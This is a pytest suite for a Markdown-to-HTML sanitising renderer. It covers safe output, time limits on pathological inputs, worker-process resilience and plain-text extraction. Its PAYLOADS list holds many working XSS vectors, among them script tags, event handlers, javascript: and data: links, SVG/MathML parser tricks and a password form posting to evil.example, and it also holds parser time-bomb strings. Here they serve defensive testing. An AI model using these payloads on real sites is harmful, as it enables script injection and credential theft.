"""Markdown becomes HTML that cannot hurt: nothing dangerous in it, never slow, and no word lost."""

import os
import signal
import subprocess
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb import markdown, markdown_worker
from kb.markdown import TooComplex, plain, render, render_or_plain, stored, to_text

ALLOWED_TAGS = markdown_worker.BLOCKS | markdown_worker.INLINE | {"input"}
ALLOWED_ATTRIBUTES = {
    *("href", "title", "rel", "align", "start", "open", "colspan", "rowspan"),
    *("class", "type", "checked", "disabled"),
}
ALLOWED_CLASSES = {"task-list", "task-list-item"}


class Inspector(HTMLParser):
    """Reads HTML as a browser's tokenizer would and notes everything that we do not want to serve."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.faults.append(f"{tag} {name}={value}")
            if name == "class" and not set((value or "").split()) <= ALLOWED_CLASSES:
                self.faults.append(f"{tag} class={value}")
            if name == "href" and urlsplit((value or "").strip()).scheme not in {"", "http", "https", "mailto"}:
                self.faults.append(f"{tag} href={value}")
        if tag == "a" and dict(attrs).get("href") and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.faults.append("a without rel")
        if tag == "input" and (dict(attrs).get("type") != "checkbox" or "disabled" not in dict(attrs)):
            self.faults.append("input that takes input")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")

    def handle_data(self, data: str) -> None:
        self.text += data


def faults(html: str) -> list[str]:
    return Inspector(html).faults


def text_of(html: str) -> str:
    return Inspector(html).text


PAYLOADS = [
    # scripts and handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\t>",
    "text <script>alert(1)</script> text",
    "<div><script>alert(1)</script></div>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img src="x" onerror="alert(1)"/>',
    "<div><img src=x onerror=alert(1)></div>",
    "<p onclick=alert(1)>click</p>",
    "<b onmouseover=alert(1)>hover</b>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<body onload=alert(1)>",
    "<a a=\"<img src=1 onerror='alert(1)'> ",
    "<a href='x' onfocus=alert(1) autofocus tabindex=0>x</a>",
    # links
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A&#x61vascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[a][r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    '[a](http://x.example "t" onclick="alert(1)")',
    '[a](http://x.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "![a](javascript:alert(1))",
    '![a"onerror="alert(1)](x)',
    '![a](x"onerror="alert(1))',
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    # other languages and their parsers
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:alert(1)></a></svg>",
    "<svg><use xlink:href='data:image/svg+xml,<svg id=x/>#x'></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    # frames, forms, the head of a page
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>x</table>",
    "<video poster=//evil.example/x><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    # names that shadow the page's own
    "<a id=content name=getElementById class='btn card'>x</a>",
    "# heading {: #__proto__ onclick=alert(1) style=color:red }",
    "text\n{: onclick=alert(1) id=search }",
    "<span class='task-list js-submit' id=main>x</span>",
    # Markdown's own corners
    "`</code></pre><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '``` {.python onclick="alert(1)"}\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| [a](javascript:alert(1)) | `<b>` |\n|---|---|\n| x | y |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] [a](javascript:alert(1))",
    '!!! note "<script>alert(1)</script>"\n    text',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><html><head></head>",
    "\x02wzxhzdk:0\x03 <div>x</div>",
    "https://evil.example/\"onmouseover='alert(1)'",
    "www.evil.example/<script>alert(1)</script>",
    "<a href='//evil.example'>protocol relative</a>",
    "x\x00<script\x00>alert(1)</script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_dangerous_passes(payload: str) -> None:
    assert faults(render(payload)) == []


def test_the_inspector_finds_what_we_fear() -> None:
    # Were it blind, all tests above would pass.
    for html in (
        "<script>",
        "<p onclick=x>",
        "<a href=javascript:x rel='noopener noreferrer nofollow'>",
        "<a href=http://x>",
        "<!-- x -->",
        "<p style=x>",
        "<img src=x>",
        "<p id=x>",
        "<ul class=card>",
        "<input type=text>",
    ):
        assert faults(html), html


MARKUP = st.text(alphabet="[]()!<>`*_#|&~ab1-. \n\t\"'/:=+\\^{}", max_size=120)


@settings(max_examples=300, deadline=None)
@given(MARKUP)
def test_sanitizing_again_changes_nothing(text: str) -> None:
    once = markdown_worker.sanitize(text)

    assert markdown_worker.sanitize(once) == once


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*PAYLOADS, "\n\n", "- ", "> ", "`", "<p", "title='", "-->"]), max_size=4))
def test_mixtures_of_payloads_are_safe_as_well(pieces: list[str]) -> None:
    assert faults(render_or_plain("".join(pieces))) == []


@settings(max_examples=200, deadline=None)
@given(MARKUP)
def test_any_text_gives_safe_html_and_one_line(text: str) -> None:
    assert faults(render_or_plain(text)) == []
    assert "\n" not in to_text(text)


# --- what people write ---


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** _em_ ~~gone~~ `code`", "<p><strong>bold</strong> <em>em</em> <del>gone</del> <code>code</code></p>"),
        ("snake_case_name and a~b~c", "<p>snake_case_name and a~b~c</p>"),
        ("```sh\nkubectl get <pod>\n```", "<pre><code>kubectl get &lt;pod&gt;</code></pre>"),
        ("<kbd>Ctrl</kbd>", "<p><kbd>Ctrl</kbd></p>"),
        ("# One\n\n###### Six", "<h3>One</h3>\n<h6>Six</h6>"),
    ],
)
def test_markdown_is_rendered(text: str, html: str) -> None:
    assert render(text).strip() == html


def test_tables_keep_their_alignment() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")

    assert '<th align="left">a</th>' in html
    assert '<td align="right">2</td>' in html


def test_task_lists_show_boxes_that_cannot_be_ticked() -> None:
    html = render("- [ ] open\n- [x] done")

    assert '<ul class="task-list">' in html
    assert html.count('type="checkbox"') == html.count("disabled") == 2
    assert html.count("checked=") == 1


def test_bare_addresses_become_links_without_a_referrer() -> None:
    assert '<a href="https://status.example.org/7?a=b" rel="noopener noreferrer nofollow">' in render(
        "see https://status.example.org/7?a=b."
    )


def test_a_list_may_follow_a_paragraph_at_once() -> None:
    html = render("Steps:\n- drain\n- restart\n\nthen wait")

    assert html.count("<li>") == 2
    assert "<p>Steps:</p>" in html
    assert "<p>then wait</p>" in html


@pytest.mark.parametrize("nested", ["- a\n  - b\n- c", "- a\n    - b\n- c", "1. a\n   - b\n2. c", "* a\n\t* b\n* c"])
def test_lists_nest_by_two_three_or_four_spaces(nested: str) -> None:
    html = render(nested)

    assert html.index("a") < html.index("<ul>", html.index("a")) < html.index("b") < html.index("c")
    assert html.count("<li>") == 3


def test_commands_stay_inside_their_step() -> None:
    html = render("1. Stop it\n\n   ```sh\n   systemctl stop app\n   ```\n\n2. Start it")

    assert html.count("<ol>") == 1
    assert "<code>systemctl stop app" in html


def test_a_heading_right_after_a_list_is_a_heading() -> None:
    assert "<h4>Next</h4>" in render("- a\n## Next")


@pytest.mark.parametrize(
    "text",
    [
        "delete <pod-name> in List<String> of <your.namespace>",
        "[ERROR]: timeout",
        "[^1]: seen in the second log",
        "[2026-03-01 10:00]: restarted",
        "a < b && c > d",
        "<unknown>inside</unknown>",
        "<script>alert(1)</script>",
    ],
)
def test_what_only_looks_like_markup_stays_visible(text: str) -> None:
    assert text_of(render(text)).strip() == text


def test_references_of_one_text_do_not_reach_the_next() -> None:
    render("[a]\n\n[a]: http://one.example")

    assert "one.example" not in render("[a]")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "![a graph](https://x.example/g.png)",
            '<a href="https://x.example/g.png" rel="noopener noreferrer nofollow">a graph</a>',
        ),
        (
            '<img alt="a > b" src="https://x.example/g.png">',
            '<a href="https://x.example/g.png" rel="noopener noreferrer nofollow">a &gt; b</a>',
        ),
        ("![a graph](images/g.png)", "a graph (images/g.png)"),
        (
            "[![badge](https://x.example/b.svg)](https://ci.example)",
            '<a href="https://ci.example" rel="noopener noreferrer nofollow">badge</a>',
        ),
        ("![](https://x.example/g.png)", ">image</a>"),
    ],
)
def test_images_are_links_for_our_pages_load_nothing_foreign(text: str, html: str) -> None:
    assert html in render(text)


OWN = "/attachments/0b8c2f6e-1d5a-4a55-9d6a-6f1c7f2d9e01/"


def test_a_picture_of_ours_is_shown() -> None:
    assert render(f"![the graph]({OWN})") == f'<p><img alt="the graph" src="{OWN}"></p>'


@pytest.mark.parametrize(
    "source",
    [
        f"https://x.example{OWN}",
        f"//x.example{OWN}",
        f"{OWN}../../admin/",
        f"{OWN}?x",
        f"/x{OWN}",
        "/attachments/0b8c2f6e/",
        f"javascript:{OWN}",
    ],
)
def test_what_only_looks_like_a_picture_of_ours_is_not_shown(source: str) -> None:
    assert "<img" not in render(f"![a]({source})")
    assert "<img" not in render(f'<img src="{source}" alt="a">')


def test_a_ref_becomes_a_link() -> None:
    assert render("See PM-7 (and FIX-12, INC-3).").count("<a ") == 3
    assert '<a href="/postmortems/PM-7/"' in render("**PM-7** again")


@pytest.mark.parametrize(
    "text",
    ["`PM-7`", "```\nPM-7\n```", "XPM-7", "PM-7x", "PM-7-1", "pm-7", "/PM-7", "a#PM-7", "PM-", "APM-7", "PM-7.example"],
)
def test_what_only_looks_like_a_ref_stays_text(text: str) -> None:
    assert "<a " not in render(text)


def test_a_ref_inside_a_link_leads_where_the_link_does() -> None:
    assert render("[as in PM-7](https://x.example/)").count("<a ") == 1


def test_characters_that_reorder_a_line_are_shown_by_their_number() -> None:
    html = render("`rm \u202e/tmp\u202c/x`")

    assert "\u202e" not in html
    assert "⟦U+202E⟧" in html


def test_empty_text_gives_empty_html() -> None:
    assert render("") == render(" \n\t") == plain(" ") == ""


# --- time ---

BOMBS = {
    "brackets": "[" * 16_000,
    "images": "![" * 8_000,
    "links": "[a](" * 8_000,
    "tags": "<a " * 16_000,
    "references": "[a][" * 20_000,
}
HARMLESS = {
    "rows": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 20_000,
    "quotes": ">" * 50_000,
    "entities": "&#91;" * 40_000,
    "footnotes": "".join(f"[^{n}]: x\n\n" for n in range(5_000)),
    "links": "[link](x)" * 20_000,
    "indents": "\n".join(" " * n + "- x" for n in range(600)),
    "backticks": "`" * 100_000,
    "divs": "<div>" * 20_000,
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS.keys())
def test_a_time_bomb_is_refused_and_the_next_text_is_rendered(bomb: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "SECONDS", 0.5)  # each of these takes minutes

    with pytest.raises(TooComplex, match="too tangled"):
        render(bomb)

    monkeypatch.undo()
    assert render("*fine*") == "<p><em>fine</em></p>"


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
def test_big_texts_are_rendered_or_refused_but_never_crash(text: str) -> None:
    assert faults(render_or_plain(text)) == []


@pytest.mark.parametrize("text", [*BOMBS.values(), *HARMLESS.values(), "*a " * 60_000, "<" * 200_000])
def test_plain_words_are_had_from_any_text(text: str) -> None:
    assert isinstance(to_text(text), str)


def test_a_bomb_is_harmless_between_fences() -> None:
    # As the message of TooComplex advises.
    assert text_of(render(f"```\n{BOMBS['brackets']}\n```")).strip() == BOMBS["brackets"]


def test_a_text_over_200_kb_is_refused_with_its_size() -> None:
    with pytest.raises(TooComplex, match="201 KB"):
        render("é" * 100_500)


def test_what_is_too_complex_is_shown_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "SECONDS", 0.5)

    html = render_or_plain(f"<b>{BOMBS['brackets']}")

    assert html == f"<pre>&lt;b&gt;{BOMBS['brackets']}</pre>"


def test_nesting_beyond_the_libraries_depth_is_refused_not_fatal() -> None:
    assert faults(render_or_plain("> " * 3_000 + "x")) == []
    assert faults(render_or_plain("- " * 3_000 + "x")) == []
    assert render("x") == "<p>x</p>"


def test_lone_surrogates_and_zero_bytes_do_not_stop_the_worker() -> None:
    assert text_of(render("a\ud800b")).strip() == "a?b"
    assert "alert" in render("a\x00b alert")


# --- the worker process ---


def idle_worker() -> subprocess.Popen[bytes]:
    render("started")
    return markdown._pool.idle.queue[0].process


def test_one_worker_serves_text_after_text() -> None:
    first = idle_worker().pid

    render("more")

    assert idle_worker().pid == first


def test_a_killed_worker_is_replaced() -> None:
    worker = idle_worker()

    worker.send_signal(signal.SIGKILL)
    worker.wait()

    assert render("*fine*") == "<p><em>fine</em></p>"
    assert idle_worker().pid != worker.pid


def test_a_worker_killed_while_it_works_refuses_that_text_only() -> None:
    worker = idle_worker()
    timer = threading.Timer(0.3, worker.send_signal, [signal.SIGKILL])
    timer.start()

    with pytest.raises(TooComplex):
        render(BOMBS["brackets"])

    timer.join()
    assert render("*fine*") == "<p><em>fine</em></p>"


def test_eight_threads_get_each_their_own_text() -> None:
    with ThreadPoolExecutor(8) as threads:
        htmls = list(threads.map(lambda n: render(f"text **{n}**"), range(200)))

    assert htmls == [f"<p>text <strong>{n}</strong></p>" for n in range(200)]


def test_a_slow_text_does_not_delay_the_others(monkeypatch: pytest.MonkeyPatch) -> None:
    refused = threading.Event()

    def slow() -> None:
        with pytest.raises(TooComplex):
            render(BOMBS["brackets"])
        refused.set()

    thread = threading.Thread(target=slow)
    thread.start()
    html = render("*quick*")
    was_first = not refused.is_set()
    thread.join()

    assert html == "<p><em>quick</em></p>"
    assert was_first


@pytest.mark.filterwarnings("ignore:This process .* is multi-threaded:DeprecationWarning")  # Python 3.12 and newer
def test_a_forked_process_has_a_worker_of_its_own() -> None:
    worker = idle_worker()
    inherited = markdown._pool.idle.queue[0].socket
    reader, writer = os.pipe()

    child = os.fork()
    if not child:
        try:
            # Left open it would keep the worker alive after the process that it belongs to.
            os.write(writer, f"{inherited.fileno()} {render('*from the child*')}".encode())
        finally:
            markdown._pool.close()
            os._exit(0)
    os.waitpid(child, 0)

    assert os.read(reader, 1000) == b"-1 <p><em>from the child</em></p>"
    assert worker.poll() is None
    assert render("*from the parent*") == "<p><em>from the parent</em></p>"
    os.close(reader)
    os.close(writer)


def test_the_worker_ends_with_its_process() -> None:
    script = "from kb import markdown; markdown.render('x'); print(markdown._pool.idle.queue[0].process.pid)"

    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)

    assert done.stderr == ""
    with pytest.raises(ProcessLookupError):
        os.kill(int(done.stdout), 0)


# --- showing what was stored, and plain words ---


def test_stored_html_is_not_escaped_again() -> None:
    assert str(stored(render("*a*"))) == "<p><em>a</em></p>"
    assert hasattr(stored("<p>"), "__html__")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("## What fixed it\n\n1. Restart the **pool**\n2. Wait", "What fixed it Restart the pool Wait"),
        ("- [x] raise `max_connections` to 200", "raise max_connections to 200"),
        ("see [the runbook](https://x.example/a_b) and ![graph](g.png)", "see the runbook and graph"),
        ("```sh\nkubectl get pods -n a\n```", "kubectl get pods -n a"),
        ("> quoted\n> twice", "quoted twice"),
        ("a_b_c and *.log and 2 * 3 * 4", "a_b_c and *.log and 2 * 3 * 4"),
        ("_really_ __strong__ ***both***", "really strong both"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a b 1 2"),
        ("one<br>two &amp; <kbd>x</kbd>", "one two & x"),
        ("delete <pod-name> of List<String>", "delete <pod-name> of List<String>"),
        (r"a \*literal\* star", "a *literal* star"),
        ("", ""),
    ],
)
def test_plain_words_lose_the_marks_and_nothing_else(text: str, words: str) -> None:
    assert to_text(text) == words
